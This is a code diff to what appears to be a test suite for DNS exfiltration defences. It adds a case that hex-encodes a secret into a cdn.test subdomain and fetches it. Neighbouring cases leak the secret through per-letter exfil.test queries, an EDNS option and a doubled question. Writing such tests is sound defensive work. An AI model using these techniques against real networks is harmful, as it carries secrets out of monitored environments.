@@ -38,6 +38,12 @@ const ways = {
     await wait(200);
   },
   'many-questions': () => Promise.all([...secret].map((letter, at) => ask(`${at}-${letter}.exfil.test`, 'A'))),
+  // A name is asked of others only when something is to be sent there.
+  'below-a-wildcard': () =>
+    fetch(`http://${Buffer.from(secret).toString('hex')}.cdn.test/`, { signal: AbortSignal.timeout(3000) }).then(
+      (answer) => console.log(answer.status),
+      (error) => console.log(error.cause?.code ?? error.name),
+    ),
   'beside-the-question': () => send(message(1, 1, question('registry.test', 1), option(secret))),
   'two-in-one': () => send(message(2, 0, question('registry.test', 1), question(`${secret}.exfil.test`, 1))),
 };
